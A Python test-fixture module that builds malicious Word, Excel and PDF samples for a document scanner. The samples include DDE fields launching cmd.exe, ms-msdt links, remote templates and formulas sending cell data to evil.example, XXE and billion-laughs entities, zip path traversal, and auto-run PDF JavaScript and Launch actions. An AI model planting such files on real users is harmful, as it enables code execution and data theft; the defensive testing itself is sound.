"""Files to download that run, fetch, send or hide something, or are two kinds of file at once."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_WITH_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
_EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file://SECRET_PATH">]>'
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"


def _relations(kind: str, target: str, mode: str = "External") -> str:
    relation = f'<Relationship Id="r9" Type="{_RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f'<Relationships xmlns="{_PACKAGE}/relationships">{relation}</Relationships>'


def _zip(parts: dict[str, str | bytes], main: str, content_type: str) -> bytes:
    types = f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    types += f'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/{main}" ContentType="{content_type}"/></Types>'
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in ({"[Content_Types].xml": types, "_rels/.rels": _relations("officeDocument", main, "Internal")} | parts).items():
            package.writestr(name, content)
    return file.getvalue()


def _word(content: str = "<w:p/>") -> bytes:
    return _zip({"word/document.xml": f"<w:document {_W}><w:body>{content}</w:body></w:document>"}, "word/document.xml", _WORD)


def _linked(kind: str, target: str, mode: str = "External") -> bytes:
    return _with("word/_rels/document.xml.rels", _relations(kind, target, mode))


def _document(content: str | bytes) -> bytes:
    return _zip({"word/document.xml": content}, "word/document.xml", _WORD)


def _setting(kind: str, target: str) -> bytes:
    return _with("word/_rels/settings.xml.rels", _relations(kind, target))


def _pieces(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return _word(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _with(name: str, content: str | bytes = "x") -> bytes:
    return _zip({"word/document.xml": f"<w:document {_W}><w:body/></w:document>", name: content}, "word/document.xml", _WORD)


def _excel(cell: str = "", **parts: str) -> bytes:
    row = f'<sheetData><row r="1"><c r="A1">{cell}</c></row></sheetData>'
    sheet = f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{row}</worksheet>'
    return _zip({"xl/workbook.xml": "<workbook/>", "xl/worksheets/sheet1.xml": sheet, **parts}, "xl/workbook.xml", _EXCEL)


def _field(instruction: str) -> bytes:
    return _word(f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')


def _twice() -> bytes:
    file = io.BytesIO(_word())
    with zipfile.ZipFile(file, "a") as package, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # about the name that is there already
        package.writestr("word/document.xml", f'<w:document {_W}><w:body><w:p><w:fldSimple w:instr="DDEAUTO c:\\x"/></w:p></w:body></w:document>')
    return file.getvalue()


def _other_name_inside() -> bytes:
    data = _with("word/media/aaaaaa.xml")
    return data.replace(b"word/media/aaaaaa.xml", b"word/vbaProject.binxx", 1)


OFFICE: dict[str, tuple[str, bytes]] = {
    "macros": ("docx", _with("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")),
    "macros by another name": ("docx", _with("word/media/image1.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))),
    "macros of the content type": ("docx", _zip({"word/document.xml": "<x/>"}, "word/document.xml", _WITH_MACROS)),
    "macros of Excel 4": ("xlsx", _excel(**{"xl/macrosheets/sheet1.xml": "<x/>"})),
    "template from elsewhere": ("docx", _setting("attachedTemplate", "https://evil.example/x.dotm")),
    "template from a share": ("docx", _setting("attachedTemplate", "file://///evil.example/x.dotx")),
    "image from elsewhere": ("docx", _linked("image", "https://evil.example/x.png")),
    "image from a share": ("docx", _linked("image", "\\\\evil.example\\x.png")),
    "object from elsewhere": ("docx", _linked("oleObject", "https://evil.example/x.html!")),
    "object from elsewhere, inside by its word": ("docx", _linked("oleObject", "https://evil.example/x.html!", "Internal")),
    "object of a program": ("docx", _with("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")),
    "package": ("docx", _with("word/embeddings/x.xlsx", b"PK\x03\x04")),
    "control": ("docx", _with("word/activeX/activeX1.xml")),
    "part of HTML": ("docx", _with("word/afchunk.mht", "MIME-Version: 1.0")),
    "part of HTML by its relation": ("docx", _linked("aFChunk", "https://evil.example/x.html")),
    "other document as a part": ("docx", _linked("subDocument", "https://evil.example/x.docx")),
    "frame": ("docx", _linked("frame", "https://evil.example/x.html")),
    "video": ("docx", _linked("video", "https://evil.example/x.mp4")),
    "link to a share": ("docx", _linked("hyperlink", "file://evil.example/x")),
    "link to a diagnosis": ("docx", _linked("hyperlink", "ms-msdt:/id PCWDiagnostic")),
    "link to a search": ("docx", _linked("hyperlink", "search-ms:query=x&amp;crumb=location:\\\\evil.example")),
    "link to a script": ("docx", _linked("hyperlink", "javascript:__canary()")),
    "field that starts a program": ("docx", _field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '/k calc'")),
    "field that starts a program, in small letters": ("docx", _field(" ddeauto x y")),
    "field that includes text": ("docx", _field("INCLUDETEXT SECRET_PATH")),
    "field that includes an image": ("docx", _field("INCLUDEPICTURE https://evil.example/x.png \\d")),
    "field that asks a database": ("docx", _field("DATABASE \\d SECRET_PATH")),
    "field that links": ("docx", _field("LINK Excel.Sheet https://evil.example/x.xlsx")),
    "field in a field": ("docx", _pieces("DDE", "AUTO c:\\x")),
    "field that is quoted": ("docx", _word('<w:p><w:fldSimple w:instr="QUOTE 68 68 69"/></w:p>')),
    "mail merge": ("docx", _with("word/settings.xml", f'<w:settings {_W}><w:mailMerge><w:query w:val="SELECT"/></w:mailMerge></w:settings>')),
    "entity": ("docx", _document(f"{_ENTITY}<w:document {_W}><w:body>&a;</w:body></w:document>")),
    "entities that double": ("docx", _document("<!DOCTYPE x [" + "".join(f'<!ENTITY a{n} "&a{n + 1};&a{n + 1};">' for n in range(40)) + "]><x>&a0;</x>")),
    "entity in another encoding": ("docx", _document(f'<?xml version="1.0" encoding="UTF-16"?>{_ENTITY}<w:document {_W}/>'.encode("utf-16"))),
    "part above": ("docx", _with("../../../hemmelig.xml")),
    "part of the machine": ("docx", _with("/etc/hemmelig.xml")),
    "part by a backslash": ("docx", _with("word\\..\\..\\hemmelig.exe")),
    "program": ("docx", _with("word/media/image1.exe", b"MZ")),
    "program as an image": ("docx", _with("word/media/image1.png", b"MZ\x90\x00" + bytes(300))),
    "shortcut": ("docx", _with("word/media/x.lnk")),
    "drawing with a script": ("docx", _with("word/media/image1.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="__canary()"/>')),
    "metafile": ("docx", _with("word/media/image1.emf", b"\x01\x00\x00\x00" + bytes(100))),
    "font": ("docx", _with("word/fonts/font1.odttf", bytes(100))),
    "interface": ("docx", _with("customUI/customUI.xml", '<customUI onLoad="x"/>')),
    "add-in": ("docx", _with("word/webextensions/webextension1.xml", "<we:webextension/>")),
    "task pane": ("docx", _with("_rels/.rels", _relations("webextensiontaskpanes", "https://evil.example/"))),
    "part twice": ("docx", _twice()),
    "part with another name inside": ("docx", _other_name_inside()),
    "words after the end": ("docx", _word() + b"MZ hemmeligt"),
    "words before the beginning": ("docx", b"MZ\x90\x00#!/bin/sh\n" + _word()),
    "comment of the archive": ("docx", _word()[:-2] + struct.pack("<H", 9) + b"hemmeligt"),
    "parts without bound": ("docx", _with("word/media/a.xml", bytes(200_000_000))),
    "parts by the thousand": ("docx", _zip({f"word/a{number}.xml": "<a/>" for number in range(20_000)}, "word/document.xml", _WORD)),
    "depth without bound": ("docx", _word("<w:p>" * 20_000 + "</w:p>" * 20_000)),
    "Excel as Word": ("docx", _excel()),
    "Word as Excel": ("xlsx", _word()),
    "archive as Word": ("docx", _zip({"x.txt": "x"}, "x.txt", "text/plain")),
    "old Word as Word": ("docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    "text format as Word": ("docx", b"{\\rtf1{\\object\\objautlink}}"),
    "HTML as Word": ("docx", b"<html><script>__canary()</script>"),
    "formula that asks": ("xlsx", _excel('<f>WEBSERVICE("https://evil.example/"&amp;A2)</f>')),
    "formula that asks, in small letters": ("xlsx", _excel("<f>_xlfn.webservice(A2)</f>")),
    "formula that starts a program": ("xlsx", _excel("<f>cmd|'/c calc'!A0</f>")),
    "formula that links": ("xlsx", _excel('<f>HYPERLINK("https://evil.example/?"&amp;A2,"x")</f>')),
    "formula that fetches an image": ("xlsx", _excel('<f>_xlfn.IMAGE("https://evil.example/x.png")</f>')),
    "formula of another book": ("xlsx", _excel("<f>'\\\\evil.example\\[x.xlsx]A'!A1</f>")),
    "book from elsewhere": ("xlsx", _excel(**{"xl/externalLinks/_rels/externalLink1.xml.rels": _relations("externalLinkPath", "https://evil.example/x.xlsx")})),
    "data from elsewhere": ("xlsx", _excel(**{"xl/connections.xml": '<connections><connection name="x"/></connections>'})),
    "query": ("xlsx", _excel(**{"xl/queryTables/queryTable1.xml": "<queryTable/>"})),
    "data model": ("xlsx", _excel(**{"xl/model/item.data": "x"})),
    "live data": ("xlsx", _excel('<f>RTD("x.y",,"z")</f>')),
    "exchange of data": ("xlsx", _excel(**{"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'})),
}  # fmt: skip # one attack a line
"""Word and Excel files with the extension that they are given."""


def _pdf(add: object = None, **root: object) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    for key, value in root.items():
        pdf.Root[f"/{key}"] = value
    if callable(add):
        add(pdf)
    file = io.BytesIO()
    pdf.save(file, static_id=True)
    return file.getvalue()


def _act(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def _note(subtype: str, **more: Any) -> object:
    def add(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=Array([0, 0, 9, 9]), **more)])

    return add


def _embedded(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["x.exe"] = b"MZ"


def _from_elsewhere(pdf: pikepdf.Pdf) -> None:
    pdf.Root.X = pdf.make_indirect(pikepdf.Stream(pdf, b"", F=Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("https://evil.example/x"))))


def _referring(pdf: pikepdf.Pdf) -> None:
    form = pikepdf.Stream(pdf, b"", Subtype=Name.Form, Ref=Dictionary(F=String("\\\\evil.example\\x.pdf")))
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(X=pdf.make_indirect(form)))


def _inflating(pdf: pikepdf.Pdf) -> None:
    stream = pikepdf.Stream(pdf, b"")
    stream.write(zlib.compress(zlib.compress(bytes(100_000_000), 9), 9), filter=Array([Name.FlateDecode, Name.FlateDecode]))
    pdf.pages[0].Contents = stream


PDFS: dict[str, bytes] = {
    "script when it opens": _pdf(OpenAction=_act("JavaScript", JS=String("app.alert(1)"))),
    "script by its name": _pdf(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _act("JavaScript", JS=String("x"))])))),
    "script when it prints": _pdf(AA=Dictionary(WP=_act("JavaScript", JS=String("x")))),
    "script of a page": _pdf(lambda pdf: setattr(pdf.pages[0], "AA", Dictionary(O=_act("JavaScript", JS=String("x"))))),
    "script in a chain": _pdf(OpenAction=_act("GoTo", D=Array([]), Next=_act("JavaScript", JS=String("x")))),
    "script in the name of a key": _pdf(OpenAction=_act("JavaScript", JS=String("x"))).replace(b"/JavaScript", b"/J#61vaScript"),
    "program": _pdf(OpenAction=_act("Launch", F=String("cmd.exe"))),
    "program by a link": _pdf(_note("Link", A=_act("Launch", Win=Dictionary(F=String("cmd.exe"))))),
    "address when it opens": _pdf(OpenAction=_act("URI", URI=String("https://evil.example/"))),
    "address of a script": _pdf(_note("Link", A=_act("URI", URI=String("javascript:__canary()")))),
    "address of a file": _pdf(_note("Link", A=_act("URI", URI=String("file:///etc/passwd")))),
    "address of a share": _pdf(_note("Link", A=_act("URI", URI=String("\\\\evil.example\\x")))),
    "address of a search": _pdf(_note("Link", A=_act("URI", URI=String("search-ms:query=x")))),
    "form that sends": _pdf(_note("Link", A=_act("SubmitForm", F=String("https://evil.example/")))),
    "form of another kind": _pdf(AcroForm=Dictionary(XFA=String("<xdp/>"), Fields=Array([]))),
    "data for a form": _pdf(_note("Link", A=_act("ImportData", F=String("x.fdf")))),
    "other document": _pdf(_note("Link", A=_act("GoToR", F=String("\\\\evil.example\\x.pdf"), D=Array([0])))),
    "document inside": _pdf(_note("Link", A=_act("GoToE", T=Dictionary(R=Name.C)))),
    "other thread": _pdf(_note("Link", A=_act("Thread", F=String("\\\\evil.example\\x.pdf"), D=0))),
    "file inside": _pdf(_embedded),
    "file of a note": _pdf(_note("FileAttachment", FS=Dictionary(F=String("x")))),
    "file that belongs": _pdf(AF=Array([Dictionary(Type=Name.Filespec, F=String("x"))])),
    "portfolio": _pdf(Collection=Dictionary(View=Name.T)),
    "film": _pdf(_note("Movie", Movie=Dictionary(F=String("https://evil.example/x")))),
    "media": _pdf(_note("RichMedia", RichMediaContent=Dictionary())),
    "screen": _pdf(_note("Screen", A=_act("Rendition", OP=0, JS=String("x")))),
    "sound": _pdf(_note("Sound", Sound=Dictionary())),
    "room": _pdf(_note("3D", **{"3DD": Dictionary(OnInstantiate=String("x"))})),
    "content from elsewhere": _pdf(_from_elsewhere),
    "page from another document": _pdf(_referring),
    "base of all addresses": _pdf(_note("Link", A=_act("URI", URI=String("x"))), URI=Dictionary(Base=String("javascript:"))),
    "stream without bound": _pdf(_inflating),
    "words before the beginning": b"<html><script>__canary()</script>" + _pdf(),
    "words after the end": _pdf() + b"PK\x03\x04<script>__canary()</script>",
    "HTML as a PDF": b"<html><script>__canary()</script>",
    "half a PDF": _pdf()[: len(_pdf()) // 2],
}  # fmt: skip # one attack a line
"""PDF files."""

HARMLESS = frozenset((
    "field that is quoted", "drawing with a script", "metafile", "font", "formula that links", "file that belongs", "portfolio", "stream without bound",
))  # fmt: skip # laid out by hand, as a table
"""What is accepted: Word draws and shows these, a link waits for a click, names without a file hide nothing, and no reader unpacks all of a PDF at once."""
